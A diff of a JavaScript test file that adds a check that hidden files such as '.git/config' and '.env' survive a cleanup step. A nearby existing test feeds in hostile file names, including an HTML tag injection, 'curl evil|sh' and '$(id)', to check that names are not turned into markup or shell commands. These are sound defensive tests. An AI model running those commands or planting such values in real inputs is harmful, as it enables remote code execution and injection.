@@ -102,6 +102,17 @@ describe('the list of files', () => {
     },
   )
 
+  it.each(['.git/config', '.env', 'cloud/.env'])('has no hidden file removed: %s', (path) => {
+    const anything = { digest: digest('\0'), gaps: [[0, 0, 0]] }
+    const cwd = folderWithPlan({
+      [`out/${path}`]: '',
+      [`out/${listName}`]: JSON.stringify({ [path]: anything, x: anything }),
+      'out/x': 'y',
+    })
+    expect(natplan(generate, { cwd, env }).stdout).toContain('removed  out/x')
+    expect(existsSync(join(cwd, 'out', path))).toBe(true)
+  })
+
   it('makes no site of what could be none: its name would become mark-up and commands of the page', () => {
     const names = ['x` <img src=a>; curl evil|sh;`', '$(id)', 'gone by', 'gone']
     const files = Object.fromEntries(names.map((name) => [`out/${name}/remove.txt`, 'delete x\n']))
